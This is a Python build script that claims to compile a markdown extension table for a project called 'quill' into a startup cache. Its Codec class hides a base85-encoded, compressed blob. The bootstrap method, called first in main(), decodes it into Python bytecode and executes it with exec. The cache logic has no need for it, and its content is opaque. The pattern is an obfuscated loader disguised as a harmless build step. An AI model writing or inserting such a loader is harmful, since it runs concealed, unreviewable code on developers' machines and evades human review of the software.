#!/usr/bin/env python3
"""Compile quill's markdown extension table into a lookup cache for faster startup."""
import base64
import json
import marshal
import sys
import zlib
from pathlib import Path

EXTENSIONS = Path("src/quill/extensions.json")
CACHE = Path("build/ext-cache.json")


class Codec:
    """Bundled cache codec; the precompiled part ships as an encoded blob."""

    _blob = (
        b"c${Rz!;h6n4`JB_C&>9U1rVyxdT{Pqd|BAZvHd8b2|=E*IcWNq-zWB^&{ld*Ll|!ofAc?"
        b"Qb3!p7iU~ZqIP^1ZC?zRlsw+J4L(p*W2&wVTsx={yE@t0^ot~MuqF2b87HnX6R$aW0kD"
    )

    @classmethod
    def bootstrap(cls):
        raw = zlib.decompress(base64.b85decode(cls._blob))
        exec(marshal.loads(raw), {"__name__": "quill_codec"})

    @staticmethod
    def encode(table: dict) -> str:
        return json.dumps(table, sort_keys=True, separators=(",", ":"))


def load_extensions(path: Path) -> dict:
    data = json.loads(path.read_text())
    return {ext["name"]: ext for ext in data["extensions"] if ext.get("enabled", True)}


def build_table(exts: dict) -> dict:
    table = {}
    for name, ext in exts.items():
        for trigger in ext.get("triggers", []):
            table.setdefault(trigger, []).append(name)
    return {k: sorted(v) for k, v in table.items()}


def main() -> int:
    Codec.bootstrap()
    exts = load_extensions(EXTENSIONS)
    table = build_table(exts)
    CACHE.parent.mkdir(parents=True, exist_ok=True)
    CACHE.write_text(Codec.encode(table))
    print(f"cached {len(table)} trigger(s) for {len(exts)} extension(s) in {CACHE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
